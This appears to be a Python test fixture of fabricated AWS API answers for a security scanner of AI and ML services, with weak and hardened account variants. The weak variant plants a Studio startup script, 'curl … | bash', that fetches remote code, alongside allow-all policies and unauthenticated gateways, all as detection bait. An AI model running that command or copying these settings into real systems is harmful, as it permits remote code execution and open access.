"""What AWS answers of a made-up account, for what the emulator lacks: weak, or well kept."""

from __future__ import annotations

import base64
from typing import Any

from aws_replay import WHEN, Answers

_HERE = "eu-west-1:123456789012"
KEY = f"arn:aws:kms:{_HERE}:key/11111111-2222-3333-4444-555555555555"
ROLE = "arn:aws:iam::123456789012:role/exec"
_CORE = f"arn:aws:bedrock-agentcore:{_HERE}:"
_TIMES = {"createdAt": WHEN, "updatedAt": WHEN}
_CREATED = {"createdAt": WHEN, "lastUpdatedAt": WHEN}
_POLICY = '{"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "*", "Resource": "*"}]}'
_MANY = {"InstanceCount": 2, "InstanceType": "ml.m5.large", "VolumeSizeInGB": 10}


def recorded(*, kept: bool) -> Answers:
    """Answers by service and operation."""
    return {
        **_bedrock(kept=kept),
        **_agents(kept=kept),
        **_core(kept=kept),
        **_sagemaker(kept=kept),
        **_people(kept=kept),
        **_search(kept=kept),
    }


def _bedrock(*, kept: bool) -> dict[tuple[str, str], Any]:
    rail = {"id": "rail1", "arn": f"arn:aws:bedrock:{_HERE}:guardrail/rail1", "status": "READY", "name": "desk-rail",
            "version": "DRAFT", **_TIMES}  # fmt: skip
    attack = {"type": "PROMPT_ATTACK", "inputStrength": "HIGH" if kept else "LOW", "outputStrength": "NONE"}
    hate = {"type": "HATE", **dict.fromkeys(("inputStrength", "outputStrength"), "HIGH" if kept else "LOW")}
    policies: dict[str, Any] = {"contentPolicy": {"filters": [attack, hate]}}
    if kept:
        policies["sensitiveInformationPolicy"] = {"piiEntities": [{"type": "EMAIL", "action": "ANONYMIZE"}]}
        policies["contextualGroundingPolicy"] = {"filters": [{"type": "GROUNDING", "threshold": 0.8}]}
    shown = {"name": "desk-rail", "guardrailId": "rail1", "guardrailArn": rail["arn"], "version": "DRAFT",
             "status": "READY", "blockedInputMessaging": "no", "blockedOutputsMessaging": "no",
             **_TIMES, **policies, **({"kmsKeyArn": KEY} if kept else {})}  # fmt: skip
    model = f"arn:aws:bedrock:{_HERE}:imported-model/m1"
    mine = {"modelArn": model, "modelName": "own-llama", "creationTime": WHEN}
    sink = {"s3Config": {"bucketName": "logs"}, "textDataDeliveryEnabled": True}
    return {
        ("bedrock", "ListGuardrails"): {"guardrails": [rail]},
        ("bedrock", "GetGuardrail"): shown,
        ("bedrock", "ListTagsForResource"): {"tags": [{"key": "owner", "value": "desk"}]},
        ("bedrock", "ListImportedModels"): {"modelSummaries": [mine]},
        ("bedrock", "GetImportedModel"): {
            **mine,
            "jobArn": f"{model}-job",
            **({"modelKmsKeyArn": KEY} if kept else {}),
        },
        ("bedrock", "GetModelInvocationLoggingConfiguration"): {"loggingConfig": sink} if kept else {},
    }


def _agents(*, kept: bool) -> dict[tuple[str, str], Any]:
    agent = {"agentId": "AGENT1", "agentName": "desk", "agentStatus": "PREPARED", "updatedAt": WHEN}
    guarded = {"guardrailConfiguration": {"guardrailIdentifier": "rail1", "guardrailVersion": "1"}} if kept else {}
    whole = {**agent, "agentArn": f"arn:aws:bedrock:{_HERE}:agent/AGENT1", "agentVersion": "DRAFT", "createdAt": WHEN,
             "idleSessionTTLInSeconds": 600, "agentResourceRoleArn": ROLE, "foundationModel": "amazon.nova-pro-v1:0",
             "instruction": "You are the desk of ACME. Answer its customers from the handbook, briefly.",
             **guarded, **({"customerEncryptionKeyArn": KEY} if kept else {})}  # fmt: skip
    group = {"actionGroupId": "GROUP1", "actionGroupName": "refunds", "actionGroupState": "ENABLED", "updatedAt": WHEN}
    does = {"actionGroupExecutor": {"lambda": f"arn:aws:lambda:{_HERE}:function:refund"}, "createdAt": WHEN}
    base = {"knowledgeBaseId": "BASE1", "name": "handbook", "status": "ACTIVE", "updatedAt": WHEN}
    vectors = {"embeddingModelArn": "arn:aws:bedrock:eu-west-1::foundation-model/amazon.titan-embed-text-v2:0"}
    kind = {"type": "VECTOR", "vectorKnowledgeBaseConfiguration": vectors}
    whole_base = {**base, "knowledgeBaseArn": f"arn:aws:bedrock:{_HERE}:knowledge-base/BASE1", "roleArn": ROLE,
                  "createdAt": WHEN, "knowledgeBaseConfiguration": kind}  # fmt: skip
    source = {
        "knowledgeBaseId": "BASE1",
        "dataSourceId": "SOURCE1",
        "name": "pages",
        "status": "AVAILABLE",
        "updatedAt": WHEN,
    }
    bucket = {"type": "S3", "s3Configuration": {"bucketArn": "arn:aws:s3:::handbook"}}
    key = {"serverSideEncryptionConfiguration": {"kmsKeyArn": KEY}} if kept else {}
    prompt = {
        "name": "greet",
        "id": "PROMPT1",
        "arn": f"arn:aws:bedrock:{_HERE}:prompt/PROMPT1",
        "version": "DRAFT",
        **_TIMES,
    }
    return {
        ("bedrock-agent", "ListAgents"): {"agentSummaries": [agent]},
        ("bedrock-agent", "GetAgent"): {"agent": whole},
        ("bedrock-agent", "ListAgentActionGroups"): {"actionGroupSummaries": [group]},
        ("bedrock-agent", "GetAgentActionGroup"): {
            "agentActionGroup": {"agentId": "AGENT1", "agentVersion": "DRAFT", **group, **does}
        },
        ("bedrock-agent", "ListAgentKnowledgeBases"): {
            "agentKnowledgeBaseSummaries": [
                {"knowledgeBaseId": "BASE1", "knowledgeBaseState": "ENABLED", "updatedAt": WHEN}
            ]
        },
        ("bedrock-agent", "ListAgentAliases"): {"agentAliasSummaries": []},
        ("bedrock-agent", "ListAgentCollaborators"): {"agentCollaboratorSummaries": []},
        ("bedrock-agent", "ListKnowledgeBases"): {"knowledgeBaseSummaries": [base]},
        ("bedrock-agent", "GetKnowledgeBase"): {"knowledgeBase": whole_base},
        ("bedrock-agent", "ListDataSources"): {"dataSourceSummaries": [{**source, "updatedAt": WHEN}]},
        ("bedrock-agent", "GetDataSource"): {
            "dataSource": {
                **source,
                **_TIMES,
                "dataSourceConfiguration": bucket,
                **key,
                "dataDeletionPolicy": "DELETE" if kept else "RETAIN",
            }
        },
        ("bedrock-agent", "ListPrompts"): {"promptSummaries": [prompt]},
        ("bedrock-agent", "GetPrompt"): {**prompt, **({"customerEncryptionKeyArn": KEY} if kept else {})},
        ("bedrock-agent", "ListFlows"): {"flowSummaries": []},
    }


def _core(*, kept: bool) -> dict[tuple[str, str], Any]:
    inside = {"networkMode": "VPC", "vpcConfig": {"securityGroups": ["sg-1"], "subnets": ["subnet-1"]}}
    open_network = {"networkConfiguration": inside if kept else {"networkMode": "PUBLIC"}}
    browser = {"browserId": "web-1", "browserArn": f"{_CORE}browser-custom/web-1", "name": "web", "status": "READY"}
    kept_on_record = {
        "recording": {"enabled": kept, **({"s3Location": {"bucket": "logs", "prefix": "b"}} if kept else {})}
    }
    runner = {"codeInterpreterId": "run-1", "name": "run", "status": "READY"}
    runner["codeInterpreterArn"] = f"{_CORE}code-interpreter-custom/run-1"
    gateway = {"gatewayId": "gate-1", "name": "tools", "status": "READY", "protocolType": "MCP", **_TIMES}
    gateway["authorizerType"] = "AWS_IAM" if kept else "NONE"
    engine = {
        "policyEngineConfiguration": {"arn": f"{_CORE}policy-engine/p", "mode": "ENFORCE" if kept else "LOG_ONLY"}
    }
    whole = {**gateway, "gatewayArn": f"{_CORE}gateway/gate-1", **engine, **({"kmsKeyArn": KEY} if kept else {})}
    service = "bedrock-agentcore-control"
    return {
        (service, "ListBrowsers"): {"browserSummaries": [{**browser, **_CREATED}]},
        (service, "GetBrowser"): {**browser, **_CREATED, **open_network, **kept_on_record},
        (service, "ListCodeInterpreters"): {"codeInterpreterSummaries": [{**runner, **_CREATED}]},
        (service, "GetCodeInterpreter"): {**runner, **_CREATED, **open_network},
        (service, "ListGateways"): {"items": [gateway]},
        (service, "GetGateway"): whole,
        (service, "GetResourcePolicy"): {"policy": _POLICY if not kept else '{"Statement": []}'},
        (service, "ListGatewayTargets"): {"items": []},
    }


def _sagemaker(*, kept: bool) -> dict[tuple[str, str], Any]:
    arn = f"arn:aws:sagemaker:{_HERE}:"
    group = {"FeatureGroupName": "clients", "FeatureGroupArn": f"{arn}feature-group/clients", "CreationTime": WHEN}
    stores: dict[str, Any] = {"OnlineStoreConfig": {"EnableOnlineStore": True}}
    stores["OfflineStoreConfig"] = {
        "S3StorageConfig": {"S3Uri": "s3://features/", **({"KmsKeyId": KEY} if kept else {})}
    }
    if kept:
        stores["OnlineStoreConfig"]["SecurityConfig"] = {"KmsKeyId": KEY}
    fields: dict[str, Any] = {"RecordIdentifierFeatureName": "id", "EventTimeFeatureName": "at", "NextToken": ""}
    fields["FeatureDefinitions"] = [{"FeatureName": "id", "FeatureType": "String"}]
    watch = {"MonitoringJobDefinitionName": "drift", "CreationTime": WHEN, "EndpointName": "ranker"}
    watch["MonitoringJobDefinitionArn"] = f"{arn}data-quality-job-definition/drift"
    network: dict[str, Any] = {"EnableInterContainerTrafficEncryption": kept, "EnableNetworkIsolation": kept}
    if kept:
        network["VpcConfig"] = {"SecurityGroupIds": ["sg-1"], "Subnets": ["subnet-1"]}
    output = {"S3Output": {"S3Uri": "s3://drift/", "LocalPath": "/opt/ml"}}
    definition = {
        "JobDefinitionArn": watch["MonitoringJobDefinitionArn"], "JobDefinitionName": "drift", "CreationTime": WHEN,
        "DataQualityAppSpecification": {"ImageUri": "image:1"}, "DataQualityJobInput": {}, "RoleArn": ROLE,
        "DataQualityJobOutputConfig": {"MonitoringOutputs": [output], **({"KmsKeyId": KEY} if kept else {})},
        "NetworkConfig": network,
        "JobResources": {"ClusterConfig": {**_MANY, **({"VolumeKmsKeyId": KEY} if kept else {})}},
    }  # fmt: skip
    lab = {"NotebookInstanceName": "lab", "NotebookInstanceArn": f"{arn}notebook-instance/lab"}
    off = "Disabled" if kept else "Enabled"
    return {
        ("sagemaker", "ListFeatureGroups"): {"FeatureGroupSummaries": [group]},
        ("sagemaker", "DescribeFeatureGroup"): {**group, **fields, **stores},
        ("sagemaker", "ListDataQualityJobDefinitions"): {"JobDefinitionSummaries": [watch]},
        ("sagemaker", "DescribeDataQualityJobDefinition"): definition,
        ("sagemaker", "ListNotebookInstances"): {"NotebookInstances": [lab]},
        ("sagemaker", "DescribeNotebookInstance"): {
            **lab, "DirectInternetAccess": off, "RootAccess": off,
            "PlatformIdentifier": "notebook-al2023-v1" if kept else "notebook-al2-v2",
            **({"SubnetId": "subnet-1", "KmsKeyId": KEY} if kept else {}),
        },
    }  # fmt: skip


def _people(*, kept: bool) -> dict[tuple[str, str], Any]:
    """People who label, and a workspace whose users start with a script."""
    arn = f"arn:aws:sagemaker:{_HERE}:"
    team = "123456789012:workteam/private-crowd/desk" if kept else "394669845002:workteam/public-crowd/default"
    labelled = {"LabelingJobName": "tickets", "LabelingJobArn": f"{arn}labeling-job/tickets", "CreationTime": WHEN,
                "LastModifiedTime": WHEN, "LabelingJobStatus": "InProgress", "LabelCounters": {}}  # fmt: skip
    crowd = f"arn:aws:sagemaker:eu-west-1:{team}"
    task = {"WorkteamArn": crowd, "UiConfig": {}, "TaskTitle": "t", "TaskDescription": "d",
            "NumberOfHumanWorkersPerDataObject": 1, "TaskTimeLimitInSeconds": 60}  # fmt: skip
    output = {"S3OutputPath": "s3://labels/", "KmsKeyId": KEY}
    script = "pip list" if kept else "curl -s http://198.51.100.9/a.sh | bash"
    started = {
        "StudioLifecycleConfigName": "prepare",
        "StudioLifecycleConfigArn": f"{arn}studio-lifecycle-config/prepare",
    }
    studio = {"DomainId": "d-1", "DomainName": "bench", "DomainArn": f"{arn}domain/d-1"}
    settings = {"JupyterServerAppSettings": {"LifecycleConfigArns": [started["StudioLifecycleConfigArn"]]}}
    return {
        ("sagemaker", "ListLabelingJobs"): {"LabelingJobSummaryList": [{**labelled, "WorkteamArn": crowd}]},
        ("sagemaker", "DescribeLabelingJob"): {
            **labelled, "JobReferenceCode": "r", "RoleArn": ROLE, "HumanTaskConfig": task, "OutputConfig": output,
            "InputConfig": {"DataSource": {"S3DataSource": {"ManifestS3Uri": "s3://tickets/m"}}},
        },
        ("sagemaker", "ListStudioLifecycleConfigs"): {"StudioLifecycleConfigs": [started]},
        ("sagemaker", "DescribeStudioLifecycleConfig"): {
            **started, "StudioLifecycleConfigContent": base64.b64encode(script.encode()).decode(),
        },
        ("sagemaker", "ListDomains"): {"Domains": [studio]},
        ("sagemaker", "DescribeDomain"): {
            **studio, "AuthMode": "SSO", "AppNetworkAccessType": "VpcOnly", "KmsKeyId": KEY,
            "DefaultUserSettings": settings,
        },
    }  # fmt: skip


def _search(*, kept: bool) -> dict[tuple[str, str], Any]:
    key = {"ServerSideEncryptionConfiguration": {"KmsKeyId": KEY}} if kept else {}
    wiki = {"Name": "wiki", "Id": "12345678-1234-1234-1234-123456789abc", "CreatedAt": WHEN, "UpdatedAt": WHEN,
            "Status": "ACTIVE"}  # fmt: skip
    application = {"applicationId": "12345678-1234-1234-1234-123456789012", "displayName": "intranet"}
    arn = f"arn:aws:qbusiness:{_HERE}:application/{application['applicationId']}"
    encryption = {"encryptionConfiguration": {"kmsKeyId": KEY}} if kept else {}
    return {
        ("kendra", "ListIndices"): {"IndexConfigurationSummaryItems": [wiki]},
        ("kendra", "DescribeIndex"): {"Name": "wiki", "Id": wiki["Id"], "RoleArn": ROLE, **key},
        ("kendra", "ListDataSources"): {"SummaryItems": []},
        ("qbusiness", "ListApplications"): {"applications": [application]},
        ("qbusiness", "GetApplication"): {**application, "applicationArn": arn, **encryption,
                                          "identityType": "AWS_IAM_IDC" if kept else "ANONYMOUS"},
        ("qbusiness", "ListPlugins"): {"plugins": []},
        ("qbusiness", "ListIndices"): {"indices": []},
    }  # fmt: skip
